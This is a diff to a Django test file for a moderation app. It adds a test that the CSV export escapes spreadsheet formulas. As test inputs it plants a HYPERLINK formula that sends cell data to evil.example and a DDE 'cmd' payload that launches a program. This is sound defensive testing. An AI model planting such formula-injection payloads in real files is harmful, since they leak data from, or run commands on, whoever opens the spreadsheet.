@@ -1,12 +1,14 @@
+import csv
 import io
 
 import openpyxl
 import pytest
 from django.contrib.auth.models import Group
 from django.urls import reverse
+from django.utils import timezone
 from wagtail.models import ModelLogEntry
 
-from consultations.roles import MODERATORS
+from core.roles import MODERATORS
 from discussions import services
 from discussions.models import Contribution, Status
 from tests.accounts.factories import ParticipantFactory, UserFactory
@@ -57,7 +59,7 @@ def test_moderator_removes_with_a_reason_suspends_the_author_and_it_is_logged(
     assert flagged.status == Status.REMOVED and flagged.removal_reason == "Lenguaje ofensivo."
     assert participant.is_suspended
     actions = set(ModelLogEntry.objects.values_list("action", flat=True))
-    assert {"discussions.remove", "discussions.suspend"} <= actions
+    assert {"discussions.remove", "accounts.suspend"} <= actions
 
 
 def test_moderator_approves_a_hidden_contribution(client, moderator, contribute, participant):
@@ -117,3 +119,25 @@ def test_moderators_see_a_flagged_contribution_with_its_context(client, moderato
     html = client.get(reverse("moderation:inspect", args=[flagged.pk])).content.decode()
     assert "Texto reportado" in html and flagged.public_url in html
     assert "(3)" in html
+
+
+def test_the_csv_export_writes_formulas_as_text_with_lima_time_and_labels(admin_client, contribute, participant):
+    attack = contribute(participant, text='=HYPERLINK("http://evil.example/?q="&A1,"Ver")')
+    services.response_record(
+        contribution=attack, status="not_accepted", text="+cmd|' /C calc'!A0", responder=admin_client_user()
+    )
+
+    export = admin_client.get(reverse("responses:index"), {"export": "csv"})
+    rows = list(csv.DictReader(io.StringIO(b"".join(export.streaming_content).decode())))
+
+    row = rows[0]
+    assert any(value.startswith("'=HYPERLINK(") for value in row.values())
+    assert any(value.startswith("'+cmd") for value in row.values())
+    assert not any(value.startswith(("=", "+", "-", "@")) for value in row.values())
+    assert "No aceptado" in row.values()  # the label, not the code "not_accepted"
+    local = timezone.localtime(attack.submit_date).strftime("%Y-%m-%d %H:%M")
+    assert any(value.startswith(local) for value in row.values())
+
+
+def admin_client_user():
+    return UserFactory(username="gobierno@example.org", is_superuser=True)
